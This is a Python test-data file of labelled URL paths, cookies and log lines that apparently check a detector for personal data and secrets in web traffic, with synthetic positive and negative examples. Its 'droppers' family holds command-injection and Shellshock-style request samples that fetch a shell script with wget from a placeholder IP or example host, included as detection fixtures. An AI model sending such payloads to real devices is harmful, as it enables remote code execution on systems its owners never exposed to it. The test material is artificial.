"""Situations for labelled.py, checking half: written after the detectors. Its first scores are in docs/detection.md; its misses were read since. See labelled_families.py."""

from __future__ import annotations

from labelled_families import families

CHECKING = families(
    ("gym_german", """
        t:/kurs/anmelden?vorname={name=first}&nachname={name=last}&email={email=email}&handy={phone=phone}
        t:/mitglieder/{user=n5}/vertrag
        """, """
        t:/kurs/anmelden?kurs=yoga-{=n2}&tag=dienstag
        t:/kurse/{=n5}/plan
        """),
    ("telecom", """
        t:/sim/activate?msisdn={phone=phone}&plan=m
        t:/selfcare/topup?customer_number={user=n7}&amount=15
        """, """
        t:/sim/activate?plan=m&promo={=n7}
        t:/coverage?cell_size={=n7}&band=n78
        """),
    ("newsletter", """
        t:/subscribe?eml={email=email}&list=weekly
        t:/nl/click?emlu={email=email}&id={=n5}
        t:/lp?_hsenc={click_id=mixed60}&_hsmi={=n9}
        """, """
        t:/subscribe?list=weekly&src=footer
        t:/nl/click?id={=n5}&pos=3
        t:/lp?utm_medium=email&utm_content={=n9}
        """),
    ("support_chat", """
        t:/chat/start?visitor_email={email=email}&displayName={name=full}
        r:https://help.example.com/ticket?requester={email=email}&subject={=word}
        """, """
        t:/chat/start?lang=fr&queue=billing
        r:https://help.example.com/ticket?category={=word}&prio=2
        """),
    ("events", """
        t:/tickets/assign?attendee={name=full}&mail={email=email}
        t:/rsvp?contact_name={name=full}&guests=2
        """, """
        t:/tickets/assign?row=F&seat={=n2}
        t:/rsvp?event={=word}-2026&guests=2
        """),
    ("airline", """
        t:/checkin?surname={name=last}&bookingref={token?=n6}
        t:/loyalty/login?memberNumber={user=n9}&pin={token=n4}
        """, """
        t:/checkin?flight=XY{=n4}&date={=date}
        t:/fares?from=OSL&to=LIS&pax=2&cabin=Y
        """),
    ("estate_agent", """
        t:/expose/anfrage?absender={name=full}&telefon={phone=phone}&strasse={postal_address=street}&plz={postcode=postcode}&ort={postal_address?=town}
        t:/valuation?address={postal_address=street}&postcode={postcode=postcode}
        """, """
        t:/expose/{=n7}?zimmer=3&preis_bis={=n6}
        t:/valuation?sqm={=n2}&year=1974
        """),
    ("rides", """
        t:/api/ride?pickup_lat={geo=lat}&pickup_lng={geo=lon}&seats=2
        t:/fleet/eta?from={geo=latlon}&vehicle={=n4}
        """, """
        t:/api/ride/quote?zone={=n2}&seats=2
        t:/fleet/eta?ratio=0.52,1.25&vehicle={=n4}
        """),
    ("devices", """
        t:/telemetry?deviceId={device_id=hex16}&rssi=-61
        t:/api/devices/{device_id=uuid}/state
        t:/ota?mac={device_id=mac}&fw={=quad}
        """, """
        t:/telemetry/schema?version={=semver}
        t:/api/models/{=uuid}/schema
        t:/ota?fw={=quad}&sha1={=hex40}
        """),
    ("adtech", """
        t:/px?gaid={device_id=uuid}&ttclid={click_id=mixed40}
        r:https://www.example.com/landing?wbraid={click_id=mixed40}
        r:https://www.example.com/landing?msclkid={click_id=msclkid}&utm_source=bing
        """, """
        t:/px?slot=top&size=728x90&cb={=n9}
        r:https://www.example.com/landing?campaign={=n9}
        r:https://www.example.com/landing?utm_source=bing&utm_term={=word}
        """),
    ("cookie_column", """
        x:_ga={device_id=ga}; PHPSESSID={session_id=php_session} ~ t:/cart
        x:JSESSIONID={session_id=java_session}; lang=de ~ t:/portal/start
        x:uid={device_id=hex32}; theme=dark ~ t:/
        """, """
        x:lang=de; theme=dark ~ t:/cart
        x:consent=all; v={=semver} ~ t:/portal/start
        x:- ~ t:/
        """),
    ("hosting_panel", """
        t:/cpsess{session_id=n9}/frontend/jupiter/index.html
        t:/plesk/login?login_name={user=handle}&passwd={token=password}
        """, """
        t:/frontend/jupiter/css/{=hex16}.css
        t:/plesk/public/js/app.js?v={=quad}
        """),
    ("invitations", """
        t:/users/invitation/accept?invitation_token={token=mixed20}
        t:/join?invite={token=mixed24}&email={email=email}
        t:/ical/private-{token=hex32}/basic.ics
        """, """
        t:/users/invitation/help?topic={=word}
        t:/join?plan=free&lang=pl
        t:/ical/holidays-{=n4}/basic.ics
        """),
    ("webhooks", """
        t:/hooks/payments?secret={token=mixed24}
        t:/deploy?key={token=hex40}&branch=main
        t:/api?client_secret={token=mixed40}&grant_type=client_credentials
        """, """
        t:/hooks/payments?event=paid&seq={=n7}
        t:/deploy?branch=main&commit={=hex40}
        t:/api?version={=date}&page=4
        """),
    ("blog_login", """
        t:/wp-login.php?log={user=handle}&pwd={token=password}
        t:/wp-json/wp/v2/users?search={email=email}
        """, """
        t:/wp-login.php?redirect_to=%2Fwp-admin%2F&reauth=1
        t:/wp-json/wp/v2/posts?search={=word}
        """),
    ("remote_access", """
        t:/remote/logincheck?username={user=handle}&credential={token=password}
        u:{user=handle} ~ t:/vpn/index.html
        """, """
        t:/remote/info?realm=staff&ver={=quad}
        t:/vpn/index.html?build={=n6}
        """),
    ("people_search", """
        t:/directory/search?q={name=full}
        t:/staff?name={name=full}&dept=hr
        """, """
        t:/directory/search?q=human+resources
        t:/staff?dept=hr&building={=n2}
        """),
    ("failing_rows", """
        m:DETAIL: Failing row contains ({=n5}, {name=first}, {name=last}, {email=email}, null).
        m:KeyError while reading {{'first_name': '{name=first}', 'last_name': '{name=last}', 'class': '7b'}}
        m:could not deliver to {email=email}: 550 mailbox unavailable
        """, """
        m:DETAIL: Failing row contains ({=n5}, 12.50, EUR, {=date}, null).
        m:KeyError while reading {{'colour': 'red', 'size': 'xl', 'class': '7b'}}
        m:could not connect to smtp port 25: Connection refused
        """),
    ("auth_errors", """
        m:user "{user=handle}" was not found in "/etc/nginx/.htpasswd"
        m:AH01617: user {user=handle}: authentication failure for "/admin": Password Mismatch
        m:File does not exist: /home/{user=handle}/public_html/wp.php
        """, """
        m:no user/password was provided for basic authentication
        m:AH01276: Cannot serve directory /srv/www/html/: No matching DirectoryIndex
        m:File does not exist: /srv/www/html/wp.php
        """),
    ("upstreams", """
        m:connect() failed (111: Connection refused) while connecting to upstream {ip=private}:9000
        m:upstream sent no valid header from {ip=v4}
        """, """
        m:connect() failed (111: Connection refused) while connecting to upstream
        m:worker process {=n5} exited with code 0, version {=quad}
        """),
    ("droppers", """
        t:/cgi-bin/luci?cmd=wget%20http%3A%2F%2F{ip=v4}%2Fa.sh
        a:() {{ :; }}; /usr/bin/wget http://{ip=v4}/x ~ t:/
        t:/setup.cgi?todo=ping&host={ip=v4}
        """, """
        t:/cgi-bin/luci?cmd=wget%20http%3A%2F%2Ffiles.example.org%2Fa.sh
        a:() {{ :; }}; /usr/bin/wget http://files.example.org/x ~ t:/
        t:/setup.cgi?todo=ping&host=www.example.org
        """),
    ("proxied", """
        t:http://{ip=v4}:8080/status
        t:/whoami?ip={ip=v4}
        f:{client_ip=v4}, {client_ip=v4} ~ t:/shop
        """, """
        t:http://www.example.org:8080/status
        t:/whoami?format=json
        f:- ~ t:/shop
        """),
    ("fediverse", """
        t:/_matrix/client/r0/profile/{user=matrix_id}/displayname
        t:/authorize_interaction?uri=acct:{email=email}
        """, """
        t:/_matrix/key/v2/server
        t:/tags/{=word}?max_id={=n13}
        """),
    ("tracking", """
        t:/matomo.php?idsite=1&_id={device_id=hex16}&rec=1
        t:/g/collect?v=2&cid={device_id=n9}.{device_id=epoch}&en=scroll
        """, """
        t:/matomo.php?idsite=1&rec=1&rand={=n6}
        t:/g/collect?v=2&en=scroll&_z={=n9}
        """),
    ("sepa_formular", """
        t:/beitrag?kontonummer={account_no=account}&inhaber={name=full}
        t:/sepa/mandat?IBAN={iban=iban}&zahler={name=full}
        t:/pay?cardholder={name=full}&cardNumber={payment_card=card}
        """, """
        t:/beitrag?jahr=2026&stufe={=n2}
        t:/sepa/mandat?IBAN={=broken_iban}
        t:/pay?orderNumber={=broken_card}&currency=EUR
        """),
    ("municipality", """
        t:/parking/permit?street={postal_address=street}&zip={postcode=postcode}&plate={vehicle_reg?=sku}
        t:/registro?dni={national_id=dni}&nombre={name=first}&apellidos={name=last}
        """, """
        t:/parking/zones?zone={=n2}&street_type=residential
        t:/registro?tramite={=n5}&anio=2026
        """),
    ("shop_nordic", """
        t:/kasse?fornavn={name=first}&etternavn={name=last}&postnr={postcode=postcode}&mobil={phone=phone}
        t:/order/confirm?epost={email=email}
        """, """
        t:/kasse?steg=2&varenr={=n7}
        t:/order/confirm?nr={=n6}
        """),
    ("lookalikes", """
        t:/go?x=%26email%3D{email=email}%26v%3D1
        t:/report?to={email=email}&range=2026.01.01-2026.03.31
        """, """
        t:/lib/@{=word}/core@{=semver}/dist/index.js
        t:/img/hero@2x.jpg?ts={=epoch_ms}
        t:/mib/{=oid}?time={=clock}
        t:/blob/{=hex40}/src/{=uuid}
        t:/track/{=ean}?at={=epoch}
        """),
    ("mobile_app", """
        t:/app/v2/login?user_name={user=handle}&device_uuid={device_id=uuid_upper}
        t:/push/register?push_token={device_id=mixed60}&os=android
        """, """
        t:/app/v2/config?build={=n5}&os=android
        t:/push/topics?topic={=word}&v={=semver}
        """),
    ("payments_return", """
        t:/return?customerEmail={email=email}&amount=10
        t:/3ds/start?card%5Bnumber%5D={payment_card=card}&card%5Bholder%5D={name=full}
        r:https://pay.example.com/checkout?billing%5Bfirst_name%5D={name=first}&billing%5Blast_name%5D={name=last}
        """, """
        t:/return?status=ok&amount=10&seq={=n7}
        t:/3ds/start?browser%5Bwidth%5D=1280&browser%5Bheight%5D=720
        r:https://pay.example.com/checkout?billing%5Bcurrency%5D=EUR&billing%5Bmode%5D=test
        """),
    ("internal_tools", """
        r:http://{hostname_internal=inner}:3000/d/{=word}
        t:/proxy?target={hostname_internal=inner}
        u:{user=handle} ~ t:/jenkins/job/{=word}/{=n4}/console
        """, """
        r:http://grafana.example.com:3000/d/{=word}
        t:/proxy?target=status.example.com
        t:/jenkins/job/{=word}/{=n4}/console
        """),
    ("museum", """
        t:/membership/join?salutation=Ms&first_name={name=first}&last_name={name=last}&e-mail={email=email}
        t:/audio-guide/return?visitorName={name=full}&phoneNumber={phone=phone}
        """, """
        t:/membership/join?tier=gold&salutation=Ms
        t:/audio-guide?room={=n2}&track={=n4}
        """),
    ("car_sharing", """
        t:/api/v2/trips/start?driver_id={user=n6}&lat={geo=lat}&lng={geo=lon}
        t:/vehicles/unlock?accessToken={token=mixed40}&car={=n4}
        """, """
        t:/api/v2/zones?city={=n2}&radius=900
        t:/vehicles/available?class=small&seats=4
        """),
    ("rental_flat", """
        t:/kontakt?anrede=Frau&name={name=full}&mailadresse={email=email}&rufnummer={phone=phone}
        t:/mieter/{user=n5}/nebenkosten
        """, """
        t:/kontakt?betreff=besichtigung&objekt={=n7}
        t:/objekte/{=n5}/grundriss
        """),
    ("charity_uk", """
        t:/giftaid?title=Mr&forename={name=first}&surname={name=last}&house=12&post_code={postcode=postcode}
        t:/direct-debit/new?account_holder={name=full}&account_number={account_no=account}
        """, """
        t:/giftaid/faq?section={=n2}&ref=menu
        t:/direct-debit/guarantee?version={=semver}
        """),
    ("courier_api", """
        t:/v1/shipments?receiver%5Bname%5D={name=full}&receiver%5Bphone%5D={phone=phone}&weight=2
        t:/v1/labels?to_street={postal_address=street}&to_zip={postcode=postcode}
        """, """
        t:/v1/shipments?status=delivered&page={=n2}
        t:/v1/labels?format=zpl&dpi=203
        """),
    ("podcasts", """
        t:/feed/private/{token=mixed24}.rss
        t:/play?listener_id={device_id=uuid}&ep={=n4}
        """, """
        t:/feed/main.rss
        t:/play?ep={=n4}&rate=1.5
        """),
    ("forms", """
        t:/form/submit?entry.{=n9}={name=full}&entry.{=n9}={email=email}
        t:/form/prefill?respondent_email={email=email}&contact_tel={phone=phone}
        """, """
        t:/form/submit?entry.{=n9}=blue&entry.{=n9}=large
        t:/form/prefill?lang=sv&theme=light
        """),
    ("dating", """
        t:/match/list?user_id={user=n7}&latitude={geo=lat}&longitude={geo=lon}
        t:/verify/selfie?session_id={session_id=hex32}&birth_date={birth_date?=dob}
        """, """
        t:/match/tips?topic={=word}
        t:/verify/help?step=2
        """),
    ("errors_app", """
        m:Failed to send mail to {email=email} (timeout)
        m:Account locked for user '{user=handle}' after 5 attempts
        m:IBAN {iban=iban} rejected by validator
        """, """
        m:Failed to open stream: No such file or directory
        m:Circuit breaker open for service billing after 5 attempts
        m:Validator rejected input of {=n2} characters
        """),
    ("soap", """
        t:/ws?xml=%3Cemail%3E{email=email}%3C%2Femail%3E
        t:/rest/kunden/{user=n6}/adressen?token={token=hex40}
        """, """
        t:/ws?wsdl&v={=n2}
        t:/rest/artikel/{=n6}/bilder?etag={=hex40}
        """),
)  # fmt: skip
